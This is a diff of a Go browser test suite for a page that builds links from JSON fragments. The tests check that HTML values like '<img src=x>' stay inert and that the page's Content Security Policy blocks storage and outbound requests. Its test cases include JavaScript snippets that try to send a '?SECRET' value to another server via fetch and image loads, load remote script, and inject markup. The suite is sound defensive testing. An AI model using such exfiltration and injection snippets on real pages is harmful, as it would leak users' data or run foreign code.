@@ -2,10 +2,11 @@ package browser
 
 import (
 	"fmt"
-	"strings"
+	"net/http"
+	"net/http/httptest"
+	"sync/atomic"
 	"testing"
 
-	"github.com/chromedp/chromedp"
 	"github.com/stretchr/testify/require"
 )
 
@@ -51,7 +52,7 @@ func TestTextIsText(t *testing.T) {
 	q := open(t, base)
 	fragment := eval[string](q, `import("./link.js").then((link) => link.toFragment(JSON.stringify({ webhooks: {}, names: 5, types: ["<img src=x>"], modes: "x", baseline: ["<b>"], organization_id: null })))`)
 	eval[string](q, fmt.Sprintf("location.hash = %s", quote(fragment)))
-	q.do(chromedp.WaitVisible(chromedp.ID("tab-4")))
+	q.wait(`document.getElementById("tab-4")`)
 	require.Equal(t, "<img src=x>", eval[string](q, `document.querySelector("#types .other").value`))
 	require.Equal(t, "", eval[string](q, `document.getElementById("webhooks").value`), "what is no text is left out")
 	require.Equal(t, before, eval[string](q, `String([...document.querySelectorAll("img, script, svg, b, iframe, [onerror], [onload]")].map((e) => e.outerHTML))`))
@@ -66,21 +67,24 @@ func TestNothingIsStoredOrSent(t *testing.T) {
 	p.paste("names", "shop")
 	p.copied("#copy-link")
 	require.Equal(t, "0 0 0 0", eval[string](p, `(async () => [localStorage.length, sessionStorage.length, document.cookie.length, (await indexedDB.databases()).length].join(" "))()`))
-	require.Empty(t, p.console)
+	console, _, _ := p.seen()
+	require.Empty(t, console)
 
+	var arrived atomic.Int64
+	elsewhere := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, _ *http.Request) {
+		arrived.Add(1)
+		w.Header().Set("Access-Control-Allow-Origin", "*")
+	}))
+	defer elsewhere.Close()
 	for _, attempt := range []string{
-		`fetch("http://localhost:9/?SECRET").then(() => "sent", () => "refused")`,
-		`new Promise((resolve) => { const i = new Image(); i.onload = () => resolve("sent"); i.onerror = () => resolve("refused"); i.src = "http://localhost:9/?SECRET"; })`,
+		`fetch(elsewhere + "?SECRET").then(() => "sent", () => "refused")`,
+		`new Promise((resolve) => { const i = new Image(); i.onload = () => resolve("sent"); i.onerror = () => resolve("refused"); i.src = elsewhere + "?SECRET"; })`,
 		`(async () => { try { document.body.innerHTML = "<b>"; return "done"; } catch { return "refused"; } })()`,
-		`new Promise((resolve) => { const s = document.createElement("script"); s.onerror = () => resolve("refused"); s.onload = () => resolve("sent"); try { s.src = "http://localhost:9/x.js"; document.head.append(s); } catch { resolve("refused"); } })`,
+		`new Promise((resolve) => { const s = document.createElement("script"); s.onerror = () => resolve("refused"); s.onload = () => resolve("sent"); try { s.src = elsewhere + "x.js"; document.head.append(s); } catch { resolve("refused"); } })`,
 		`(async () => { try { const s = document.createElement("script"); s.append("window.ran = true"); document.head.append(s); } catch {} return window.ran ? "done" : "refused"; })()`,
 	} {
-		require.Equal(t, "refused", eval[string](p, attempt), attempt)
+		require.Equal(t, "refused", eval[string](p, "(() => { const elsewhere = "+quote(elsewhere.URL+"/")+"; return "+attempt+"; })()"), attempt)
 	}
-	for _, url := range p.sent {
-		if strings.HasPrefix(url, "http://localhost:9/") {
-			// Chromium reports a request that its policy stops; none arrives.
-			require.Contains(t, strings.Join(p.console, "\n"), "violates the following Content Security Policy directive")
-		}
-	}
+	// Chromium announces a request even if its policy stops it: only the server can tell.
+	require.Zero(t, arrived.Load())
 }
